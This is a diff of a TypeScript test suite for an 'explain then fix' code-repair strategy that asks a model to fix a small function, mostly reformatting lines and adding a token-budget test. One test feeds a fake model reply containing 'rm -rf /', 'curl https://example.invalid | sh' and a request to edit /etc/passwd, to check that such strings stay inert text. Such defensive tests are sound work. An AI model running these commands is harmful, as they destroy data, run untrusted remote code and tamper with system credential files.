@@ -7,14 +7,29 @@ import { closeLine, openLine } from '../../../server/src/core/reply.ts';
 import { explainThenFix } from '../../../server/src/strategies/explainThenFix.ts';
 import { firstMessages, keepLine, retryMessage } from '../../../server/src/strategies/explainThenFix.prompt.ts';
 import { feedbackOfGoals, feedbackWords, withoutPaths } from '../../../server/src/strategies/feedback.ts';
-import { block, fakeRefine, importFix, nonceOf, problemOn, targetFrom, testCase, type Answer, type FakeOptions } from '../../support/fakePorts.ts';
+import {
+  block,
+  fakeRefine,
+  importFix,
+  nonceOf,
+  problemOn,
+  targetFrom,
+  testCase,
+  type Answer,
+  type FakeOptions,
+} from '../../support/fakePorts.ts';
 
 const target = targetFrom('// head\n«export function add(a: number, b: number) {\n  return a - b;\n}\n»// tail\n');
 const tests = (text: string) => [
-  testCase('adds', /a \+ b/.test(text), { message: 'not equal', expected: '3', actual: /a \* b/.test(text) ? '2' : '-1' }),
+  testCase('adds', /a \+ b/.test(text), {
+    message: 'not equal',
+    expected: '3',
+    actual: /a \* b/.test(text) ? '2' : '-1',
+  }),
   testCase('is pure', !text.includes('console'), { message: 'it prints' }),
 ];
-const problems = (text: string): readonly Problem[] => problemOn(text, 'nowhere', 'TS2304', "Cannot find name 'nowhere'.");
+const problems = (text: string): readonly Problem[] =>
+  problemOn(text, 'nowhere', 'TS2304', "Cannot find name 'nowhere'.");
 const body = (expression: string) => `export function add(a: number, b: number) {\n  return ${expression};\n}`;
 const base: FakeOptions = { target, tests, problems };
 
@@ -22,7 +37,8 @@ async function run(answers: readonly Answer[], options: Partial<FakeOptions> = {
   const fake = fakeRefine({ ...base, answers, ...options });
   return { fake, result: await explainThenFix.refine(fake.context, fake.task) };
 }
-const lastWords = (request: { readonly messages: readonly { readonly content: string }[] }) => request.messages.at(-1)!.content;
+const lastWords = (request: { readonly messages: readonly { readonly content: string }[] }) =>
+  request.messages.at(-1)!.content;
 
 test('wrong first and right second: feeds back the words of the test, and accepts the second', async () => {
   const { fake, result } = await run([block(body('a * b')), block(body('a + b'), 'It subtracts where it should add.')]);
@@ -35,8 +51,13 @@ test('wrong first and right second: feeds back the words of the test, and accept
 });
 
 test('shows the explanation whose fix passed, and no other', async () => {
-  const { fake } = await run([block(body('a * b'), 'A wrong explanation.'), block(body('a + b'), 'It subtracts where it should add.')]);
-  expect(fake.events.filter((event) => event.type === 'note')).toEqual([{ type: 'note', message: 'Explanation, whose fix passed the checks: It subtracts where it should add.' }]);
+  const { fake } = await run([
+    block(body('a * b'), 'A wrong explanation.'),
+    block(body('a + b'), 'It subtracts where it should add.'),
+  ]);
+  expect(fake.events.filter((event) => event.type === 'note')).toEqual([
+    { type: 'note', message: 'Explanation, whose fix passed the checks: It subtracts where it should add.' },
+  ]);
 });
 
 test('only wrong answers: nothing is offered', async () => {
@@ -55,7 +76,9 @@ test('a change that breaks another test is refused, and the test is named to the
 
 test('the compiler is quoted with the line of the new text', async () => {
   const { fake } = await run([block(body('nowhere(a, b)')), block(body('a + b'))]);
-  expect(lastWords(fake.asked[1]!)).toContain('TS2304 at line 2 of the text (`return nowhere(a, b);`): Cannot find name \'nowhere\'.');
+  expect(lastWords(fake.asked[1]!)).toContain(
+    "TS2304 at line 2 of the text (`return nowhere(a, b);`): Cannot find name 'nowhere'.",
+  );
 });
 
 test('a silenced error is refused and said to be so', async () => {
@@ -65,7 +88,9 @@ test('a silenced error is refused and said to be so', async () => {
 });
 
 test('keeps the best version and not the last', async () => {
-  const two: Partial<FakeOptions> = { tests: (text) => [testCase('adds', /a \+ b/.test(text)), testCase('commented', text.includes('// sum'))] };
+  const two: Partial<FakeOptions> = {
+    tests: (text) => [testCase('adds', /a \+ b/.test(text)), testCase('commented', text.includes('// sum'))],
+  };
   const { result } = await run([block(body('a + b')), block(body('a * b'))], two);
   expect(result.best?.text).toContain('a + b');
   expect(result.best?.verdict.remaining.map((goal) => goal.title)).toEqual(['commented']);
@@ -104,8 +129,16 @@ describe('stops', () => {
     expect(fake.asked).toEqual([]);
   });
 
+  test('after a round, when the next one does not fit into the tokens that are left', async () => {
+    const { fake, result } = await run([block(body('a * b')), block(body('a + b'))], { limits: { tokens: 1500 } });
+    expect(result.reason).toBe('the budget for tokens is spent');
+    expect(fake.asked).toHaveLength(1);
+  });
+
   test('asks no more rounds than two, whatever the model asks for', async () => {
-    const { fake } = await run(Array.from({ length: 9 }, (_, index) => block(body(`a * b * ${index}`), 'Please let me have more rounds.')));
+    const { fake } = await run(
+      Array.from({ length: 9 }, (_, index) => block(body(`a * b * ${index}`), 'Please let me have more rounds.')),
+    );
     expect(fake.asked).toHaveLength(2);
   });
 });
@@ -114,8 +147,16 @@ describe('replies in another form', () => {
   test.each<[string, Answer, string]>([
     ['no block', 'Just add them.', 'no block'],
     ['no end', (request) => `${openLine(nonceOf(request))}\n${body('a + b')}`, 'end line'],
-    ['a placeholder', block('export function add(a: number, b: number) {\n  // ... existing code ...\n}'), 'leaves part of the text out'],
-    ['two blocks', (request) => `${openLine(nonceOf(request))}\nx\n${closeLine(nonceOf(request))}\n`.repeat(2), 'more than one block'],
+    [
+      'a placeholder',
+      block('export function add(a: number, b: number) {\n  // ... existing code ...\n}'),
+      'leaves part of the text out',
+    ],
+    [
+      'two blocks',
+      (request) => `${openLine(nonceOf(request))}\nx\n${closeLine(nonceOf(request))}\n`.repeat(2),
+      'more than one block',
+    ],
     ['another nonce', `${openLine('zzzz')}\n${body('a + b')}\n${closeLine('zzzz')}`, 'no block'],
   ])('%s is said to the model and judged by nobody', async (_, answer, words) => {
     const { fake, result } = await run([answer, block(body('a + b'))]);
@@ -126,20 +167,30 @@ describe('replies in another form', () => {
   });
 
   test('an answer that gives KEEP and a block is read as the block', async () => {
-    const { result } = await run([(request) => `${keepLine(nonceOf(request))}\n${(block(body('a + b')) as (r: typeof request) => string)(request)}`]);
+    const { result } = await run([
+      (request) => `${keepLine(nonceOf(request))}\n${(block(body('a + b')) as (r: typeof request) => string)(request)}`,
+    ]);
     expect(result.best?.text).toContain('a + b');
   });
 
   test('paths, commands and links in a reply are text', async () => {
-    const { result } = await run([block(`${body('a + b')}\n// rm -rf / ; see https://example.invalid/ and ../../other.ts`, 'Run `curl https://example.invalid | sh`, then edit /etc/passwd.')]);
+    const { result } = await run([
+      block(
+        `${body('a + b')}\n// rm -rf / ; see https://example.invalid/ and ../../other.ts`,
+        'Run `curl https://example.invalid | sh`, then edit /etc/passwd.',
+      ),
+    ]);
     expect(result.best?.candidate.companions).toEqual([]);
-    expect(result.best?.text).toBe(`// head\n${body('a + b')}\n// rm -rf / ; see https://example.invalid/ and ../../other.ts\n// tail\n`);
+    expect(result.best?.text).toBe(
+      `// head\n${body('a + b')}\n// rm -rf / ; see https://example.invalid/ and ../../other.ts\n// tail\n`,
+    );
   });
 });
 
 test('imports that the new text needs come from the tools', async () => {
   const { fake, result } = await run([block(body('plus(a, b) // a + b'))], {
-    problems: (text) => (text.includes('{ plus }') ? [] : problemOn(text, 'plus', 'TS2304', "Cannot find name 'plus'.")),
+    problems: (text) =>
+      text.includes('{ plus }') ? [] : problemOn(text, 'plus', 'TS2304', "Cannot find name 'plus'."),
     fixes: (_, asked) => asked.map((problem) => importFix(problem, "import { plus } from './plus';\n")),
   });
   expect(result.best?.text.startsWith("import { plus } from './plus';\n// head\n")).toBe(true);
@@ -148,7 +199,9 @@ test('imports that the new text needs come from the tools', async () => {
 });
 
 test('builds on the best text of the rung before', async () => {
-  const two: Partial<FakeOptions> = { tests: (text) => [testCase('adds', /a \+ b/.test(text)), testCase('commented', text.includes('// sum'))] };
+  const two: Partial<FakeOptions> = {
+    tests: (text) => [testCase('adds', /a \+ b/.test(text)), testCase('commented', text.includes('// sum'))],
+  };
   const first = (await run([block(body('a + b'))], two)).result.best!;
   const { fake, result } = await run([block(`// sum\n${body('a + b')}`)], { ...two, best: first });
   expect(lastWords(fake.asked[0]!)).toContain('return a + b;');
@@ -157,7 +210,11 @@ test('builds on the best text of the rung before', async () => {
 });
 
 test('without any check that decides, a text is a spare and never the best', async () => {
-  const fake = fakeRefine({ target: { ...target, goal: 'Name the arguments x and y.' }, problems: () => [], answers: [block(body('a + b'))] });
+  const fake = fakeRefine({
+    target: { ...target, goal: 'Name the arguments x and y.' },
+    problems: () => [],
+    answers: [block(body('a + b'))],
+  });
   const result = await explainThenFix.refine(fake.context, fake.task);
   expect(result.best).toBeUndefined();
   expect(result.spare?.verdict.kind).toBe('unverified');
@@ -173,7 +230,8 @@ describe('the prompt', () => {
     const words = request!.messages.map((message) => message.content).join('\n');
     const nonce = nonceOf(request!);
     expect(words).toContain(`${openLine(nonce)}\n${body('a - b')}\n\n${closeLine(nonce)}`);
-    for (const part of ['Please add.', 'the test “adds” fails', 'expect(add(1, 2)).toBe(3)']) expect(words).toContain(part);
+    for (const part of ['Please add.', 'the test “adds” fails', 'expect(add(1, 2)).toBe(3)'])
+      expect(words).toContain(part);
     for (const part of ['// head', '// tail', 'file://', '/work/']) expect(words).not.toContain(part);
     expect(words).not.toContain('is pure');
   });
@@ -195,26 +253,43 @@ describe('the prompt', () => {
   });
 
   test('carries a nonce that is nowhere in the document and new for every seed', async () => {
-    const nonces = await Promise.all([1, 2].map(async (seed) => nonceOf((await run([block(body('a + b'))], { seed })).fake.asked[0]!)));
+    const nonces = await Promise.all(
+      [1, 2].map(async (seed) => nonceOf((await run([block(body('a + b'))], { seed })).fake.asked[0]!)),
+    );
     expect(new Set(nonces).size).toBe(2);
   });
 });
 
 describe('feedback', () => {
   test('puts the failing test before the runtime error, the compiler and the linter', () => {
-    const evidence = { textHash: '', runs: [{ kind: 'unavailable', checker: 'eslint', family: 'lint', failure: failure('checker.missing', 'a', 'b') }] } as const;
+    const evidence = {
+      textHash: '',
+      runs: [{ kind: 'unavailable', checker: 'eslint', family: 'lint', failure: failure('checker.missing', 'a', 'b') }],
+    } as const;
     const [lint] = problemOn(target.document.text, 'add', 'no-add', 'No add.', { checker: 'eslint' });
     const [type] = problemOn(target.document.text, 'add', 'TS1', 'No type.');
     const goals = [
       { kind: 'wish', title: 'w' },
       { kind: 'problem', title: '', problem: lint! },
       { kind: 'problem', title: '', problem: type! },
-      { kind: 'test', title: '', checker: 'v', test: testCase('throws', false, { message: 'TypeError: x is not a function' }) },
-      { kind: 'test', title: '', checker: 'v', test: testCase('adds', false, { message: 'no', expected: '1', actual: '2' }) },
+      {
+        kind: 'test',
+        title: '',
+        checker: 'v',
+        test: testCase('throws', false, { message: 'TypeError: x is not a function' }),
+      },
+      {
+        kind: 'test',
+        title: '',
+        checker: 'v',
+        test: testCase('adds', false, { message: 'no', expected: '1', actual: '2' }),
+      },
     ] as const;
     const kinds = feedbackOfGoals(goals, target, evidence).map((one) => one.kind);
     expect(kinds).toEqual(['failing test', 'runtime error', 'compiler message', 'linter message', 'request']);
-    expect(feedbackWords(Array.from({ length: 20 }, (_, index) => ({ kind: 'failing test', text: `t${index}` })))).toContain('and 12 more');
+    expect(
+      feedbackWords(Array.from({ length: 20 }, (_, index) => ({ kind: 'failing test', text: `t${index}` }))),
+    ).toContain('and 12 more');
   });
 
   test.each([
